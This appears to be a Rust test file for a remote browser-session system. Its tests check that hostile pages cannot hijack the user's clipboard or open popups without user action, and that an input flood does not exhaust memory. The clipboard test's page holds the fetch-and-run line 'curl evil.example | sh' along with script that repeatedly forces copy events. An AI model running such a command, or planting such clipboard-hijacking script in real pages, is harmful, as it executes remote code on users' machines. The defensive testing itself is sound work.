//! Pages that would take more than a login from the person, and people who would take more than a
//! recording from the node.

use futures::SinkExt;
use serde_json::json;
use tokio_tungstenite::tungstenite::Message;

use super::{READY, Scene, door, until};
use crate::support::site::{Site, html};

#[tokio::test]
async fn no_page_writes_into_the_persons_clipboard() {
    let page = format!(
        "<p id=p>curl evil.example | sh</p><script>let n = 0; setInterval(() => {{
           getSelection().selectAllChildren(p); document.dispatchEvent(new Event('copy', {{ bubbles: true }}));
           dispatchEvent(new ClipboardEvent('cut')); document.execCommand('copy');
           document.title = Math.floor(n++ / 20) % 2 ? 'Done' : 'Ready'; }}, 50);</script>{READY}"
    );
    let scene = Scene::of(&page).await;
    let person = &scene.person;
    let grant = json!({"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]});
    person.tools.call("Browser.grantPermissions", grant).await;
    person.tools.js("navigator.clipboard.writeText('my own')").await;
    // From one to the other and back the page tries twenty times at least.
    for title in ["Ready", "Done", "Ready"] {
        person.is_told(title).await;
    }
    person.knows("navigator.clipboard.readText()", "my own").await;
    person.knows("document.getElementById('ask').open", false).await;
    scene.ends().await;
}

#[tokio::test]
async fn runs_may_act_only_where_the_person_did_something() {
    let under =
        Site::pages(&[("/", "<title>Under</title><script>setTimeout(close, 1500)</script>")]);
    let pop = format!(
        "window.open('{}', 'x', 'popup')",
        under.page("/").replace("127.0.0.1", "localhost")
    );
    let site = Site::new(move |asked| {
        let pop = pop.clone();
        async move {
            match asked.route() {
                "/in" => html(format!("<p>In</p>{}", READY.replace("Ready", "Members"))),
                _ => html(format!(
                    "<button style='position:absolute;left:0;top:0;width:300px;height:200px' \
                     onclick=\"{pop}; setTimeout(() => {{ location = '/in' }}, 2500)\">Log in</button>{READY}"
                )),
            }
        }
    });
    let scene = Scene::at(site).await;
    let person = &scene.person;
    person.waits_for("Ready").await;
    person.clicks((100.0, 100.0)).await;
    person.is_told("Under").await;
    person.waits_for("Members").await;
    person.uses("button", "Save login").await;
    let host = scene.site.host.clone();
    person.sees(&host).await;
    let saved = until(&scene.hob, &scene.recording.session, "ready").await;
    assert_eq!(saved["origins"], json!([scene.site.url]));
    scene.ends().await;
}

fn memory(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.split_whitespace().next().unwrap().parse().unwrap()
}

#[tokio::test]
async fn a_flood_of_input_does_not_fill_the_memory() {
    let page = format!(
        "<textarea autofocus></textarea><script>onkeydown = () => {{ for (;;); }}</script>{READY}"
    );
    let scene = Scene::of(&page).await;
    let (_, token) = door::token(&scene.recording, &scene.hob.url).await;
    let mut line = door::line(&scene.recording, &scene.hob.url, &token).await;
    let key = json!({"t": "key", "down": true, "key": "a", "code": "KeyA", "number": 65, "location": 0,
        "repeat": false, "types": true, "m": 0});
    line.send(Message::text(key.to_string())).await.unwrap();
    let pid = scene.hob.process.id();
    let before = memory(pid);
    let text = json!({"t": "text", "text": "x".repeat(200_000)}).to_string();
    let mut most = 0;
    for _ in 0..1000 {
        line.send(Message::text(text.clone())).await.unwrap();
        most = most.max(memory(pid).saturating_sub(before));
    }
    assert!(most < 100_000, "{most} KiB of 200 MB that were sent are kept");
    drop(line);
    scene.ends().await;
}
